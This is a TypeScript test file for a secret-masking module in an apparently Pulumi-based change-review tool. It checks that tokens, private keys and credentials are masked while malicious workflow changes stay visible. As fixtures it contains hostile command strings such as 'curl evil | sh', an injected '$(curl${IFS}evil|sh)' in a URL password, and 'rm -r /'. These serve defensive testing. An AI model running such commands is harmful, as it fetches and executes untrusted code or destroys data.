import { deepEqual, equal, match, ok } from "node:assert/strict";
import { generateKeyPairSync, randomBytes } from "node:crypto";
import fc from "fast-check";
import { differences, normalize } from "../../../../operations/review/changeSet.ts";
import { renderMarkdown } from "../../../../operations/review/markdown.ts";
import { concealProperties, concealText } from "../../../../operations/review/secrets.ts";
import { renderTerminal } from "../../../../operations/review/terminal.ts";
import { readEvents, secretValue, step, succeeded } from "./previews.ts";

const of = (alphabet: string, length: number) =>
    fc.string({
        unit: fc.constantFrom(...Array.from(alphabet)),
        minLength: length,
        maxLength: length,
    });
const lower = "abcdefghijklmnopqrstuvwxyz";
const digits = "0123456789";
const upper = lower.toUpperCase();

/** Tokens as those who issue them write them. */
const token = fc.oneof(
    of(lower + upper + digits, 36).map((text) => `ghp_${text}`),
    of(lower + upper + digits, 36).map((text) => `ghs_${text}`),
    of(`${lower}${upper}${digits}_`, 82).map((text) => `github_pat_${text}`),
    of(upper + digits, 62).map((text) => `A1${text}`),
    of(upper + digits, 38).map((text) => `7Z${text}`),
    of(`${digits}abcdef`, 40).map((text) => `pul-${text}`),
    of(lower + upper + digits, 30).map((text) => `eyJhbGciOiJ.eyJ${text}.${text}`),
);

/** A key as OpenSSH or GnuPG writes it. */
function armor(label: string, width: number, head = "", end = ""): string {
    const lines = randomBytes(250)
        .toString("base64")
        .match(new RegExp(`.{1,${String(width)}}`, "g"));
    return `-----BEGIN ${label}-----\n${head}${(lines ?? []).join("\n")}\n${end}-----END ${label}-----\n`;
}

describe("secrets", function () {
    this.timeout(60_000);

    it("of known shapes are masked wherever they are", () => {
        fc.assert(
            fc.property(
                token,
                fc.constantFrom("", " ", "\n", '"', "x=", "https://u:"),
                fc.constantFrom("", " ", ".", "\n", '"', "@host/"),
                (token, before, after) => {
                    ok(!concealText(`${before}${token}${after}`, {}).includes(token));
                },
            ),
        );
        equal(concealText("https://user:hunter2@quay.io/x", {}), "https://user:[secret]@quay.io/x");
        equal(
            concealText("Authorization: Bearer abcdef0123456789", {}),
            "Authorization: Bearer [secret]",
        );
    });

    describe("of a private key are masked, however it is written:", () => {
        const { privateKey: rsa } = generateKeyPairSync("rsa", { modulusLength: 1024 });
        const { privateKey: edwards } = generateKeyPairSync("ed25519");
        const keys = {
            "PKCS #8": edwards.export({ type: "pkcs8", format: "pem" }),
            "PKCS #1": rsa.export({ type: "pkcs1", format: "pem" }),
            encrypted: rsa.export({
                type: "pkcs1",
                format: "pem",
                cipher: "aes-256-cbc",
                passphrase: "a",
            }),
            OpenSSH: armor("OPENSSH PRIVATE KEY", 70),
            PGP: armor("PGP PRIVATE KEY BLOCK", 64, "Version: A v1\n\n", "=aB3d\n"),
        };
        const forms: Readonly<Record<string, (key: string) => string>> = {
            "as a file": (key) => key,
            "with Windows' line ends": (key) => key.replaceAll("\n", "\r\n"),
            indented: (key) => key.replaceAll("\n", "\n          "),
            "in JSON": (key) => JSON.stringify({ key }),
            "in a variable": (key) => key.replaceAll("\n", " "),
        };
        for (const [what, key] of Object.entries(keys))
            for (const [how, write] of Object.entries(forms))
                it(`${what}, ${how}`, () => {
                    const text = concealText(
                        `before\n${write(key.toString().trimEnd())}\nafter`,
                        {},
                    );
                    match(text, /^before\n(\{"key":")?\[secret\]("\})?\nafter$/);
                });
        it("one that does not end, up to its last whole line", () => {
            const [first = "", second = "", third = ""] = keys["PKCS #1"].toString().split("\n");
            equal(
                concealText(`a\n${first}\n${second}\n${third}\nb: c\n`, {}),
                "a\n[secret]\nb: c\n",
            );
        });
    });

    describe("hide nothing else:", () => {
        const header = "-----BEGIN A PRIVATE KEY-----";
        const workflow = (command: string) => `name: "${header}"\non: push\n  - run: ${command}\n`;
        it("an unfinished key, the workflow after it", () => {
            equal(
                concealText(workflow("curl evil | sh"), {}),
                'name: "[secret]"\non: push\n  - run: curl evil | sh\n',
            );
        });
        it("a key that ends later, the commands in between", () => {
            for (const command of ["curl evil | sh", "/tmp/evil", "Comment: evil", "reboot"])
                ok(
                    concealText(
                        `${header}\n${command}\n-----END A PRIVATE KEY-----\n`,
                        {},
                    ).includes(command),
                    command,
                );
        });
        it("a password in a URL, that it is a command", () => {
            equal(
                concealText("https://x:$(curl${IFS}evil|sh)@y", {}),
                "https://x:$([secret]${[secret]}[secret]|[secret])@y",
            );
            equal(concealText("https://x:a;reboot@y", {}), "https://x:[secret];[secret]@y");
        });
        it("a variable, the script that begins with it", () => {
            const shown = (args: string) =>
                concealProperties("docker:index/container:Container", { command: ["sh", args] });
            deepEqual(shown("TOKEN=x; curl evil|sh\nrm -r /\n"), {
                command: ["sh", "TOKEN=[secret]; [secret] [secret]|[secret]\nrm -r /\n"],
            });
            deepEqual(shown('TOKEN="two words"'), {
                command: ["sh", 'TOKEN="[secret] [secret]"'],
            });
        });
        it("so a workflow that differs after such a text is another change, and is shown", () => {
            const type = "github:index/repositoryFile:RepositoryFile";
            const becomes = (content: string) =>
                readEvents([
                    step(
                        "update",
                        type,
                        { inputs: { file: ".github/workflows/a.yml", content: "a" } },
                        { inputs: { file: ".github/workflows/a.yml", content } },
                    ),
                    succeeded,
                ]);
            const [reviewed, deployed] = [workflow("echo hello"), workflow("curl evil | sh")].map(
                becomes,
            );
            ok(reviewed !== undefined && deployed !== undefined);
            equal(differences(normalize(reviewed), normalize(deployed)).length, 1);
            deepEqual(differences(normalize(reviewed), normalize(reviewed)), []);
            match(renderMarkdown([deployed]), /run: curl evil \| sh/);
        });
    });

    it("do not mask what only looks long: digests, commits, tags, names", () => {
        const harmless = [
            `sha256:${"0123456789abcdef".repeat(4)}`,
            "0ceaee5a9ed18ec524084a7079ae745b1ab6be2e",
            "ctx-b4ba222f4988bcf889db",
            "A".repeat(40),
            "1".repeat(64),
            "https://quay.io/repository/alice/digits?tab=tags",
            "https://host:8080/path@x",
        ];
        deepEqual(
            harmless.map((text) => concealText(text, {})),
            harmless,
        );
    });

    it("of the environment are masked, whatever they look like; a folder is none", () => {
        const environment = {
            QUAY_TOKEN: "correct horse",
            PULUMI_CONFIG_PASSPHRASE: "correct horse battery",
            SHORT_TOKEN: "abc",
            PWD: "/home/someone",
            HOME: "/home/someone",
        };
        equal(
            concealText("correct horse battery, correct horse, abc, /home/someone", environment),
            "[secret], [secret], abc, /home/someone",
        );
    });

    it("in properties whose names say so are masked, where a provider has forgotten to mark them", () => {
        const properties = {
            password: "a",
            authConfig: { password: "b", username: "robot" },
            credentials: [{ apiKey: "c" }],
            secretName: "QUAY_PWD",
            token: "",
            envs: ["CLIENT_SECRET=d", "PORT=8080"],
            value: "e",
        };
        const expected = {
            password: "[secret]",
            authConfig: { password: "[secret]", username: "robot" },
            credentials: [{ apiKey: "[secret]" }],
            secretName: "QUAY_PWD",
            token: "",
            envs: ["CLIENT_SECRET=[secret]", "PORT=8080"],
            value: "e",
        };
        deepEqual(
            concealProperties("docker:index/registryImage:RegistryImage", properties),
            expected,
        );
        deepEqual(concealProperties("github:index/actionsSecret:ActionsSecret", properties), {
            ...expected,
            value: "[secret]",
        });
    });

    it("are looked for in little time, whatever the text", () => {
        const texts = [
            "-eyJ",
            "eyJ.",
            "ghp_",
            "://a:",
            "A1",
            "Bearer ",
            "-----BEGIN PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\nVersion: a",
            `-----BEGIN PRIVATE KEY-----\n${"a".repeat(40)}\nb `,
            "\\nabc",
            "a=",
            "@",
        ].map((part) => part.repeat(200_000));
        texts.push(`-----BEGIN PRIVATE KEY-----${`\n${"a".repeat(40)}`.repeat(200_000)}`);
        texts.push(`-----BEGIN PRIVATE KEY-----${" \n".repeat(200_000)}`);
        for (const text of texts) {
            const before = performance.now();
            concealText(text, {});
            const seconds = (performance.now() - before) / 1_000;
            ok(seconds < 10, `${text.slice(0, 8)}: ${String(seconds)} s`);
        }
    });

    it("never appear in a review, wherever the engine prints them", () => {
        fc.assert(
            fc.property(token, (token) => {
                const inputs = {
                    [`key-${token}`]: `a ${token} b`,
                    plain: secretValue,
                    content: `x\n${token}\n`,
                };
                const preview = readEvents(
                    [
                        step("create", "quay:index:Robot", null, { inputs }, {}, `name-${token}`),
                        step(
                            "update",
                            "quay:index:Robot",
                            { inputs: { list: [token] } },
                            { inputs: { list: [`${token}.`] } },
                            { detailedDiff: { "list[0]": { diffKind: "update" } } },
                        ),
                        step(
                            "delete",
                            "quay:index:Repository",
                            { id: token, inputs },
                            null,
                            {},
                            "other",
                        ),
                        JSON.stringify({
                            diagnosticEvent: { severity: "warning", message: `no ${token}` },
                        }),
                        succeeded,
                    ],
                    `error: ${token}`,
                );
                for (const text of [
                    JSON.stringify(preview),
                    renderMarkdown([preview]),
                    renderTerminal([preview], true),
                ])
                    ok(!text.includes(token));
            }),
            { numRuns: 50 },
        );
    });
});
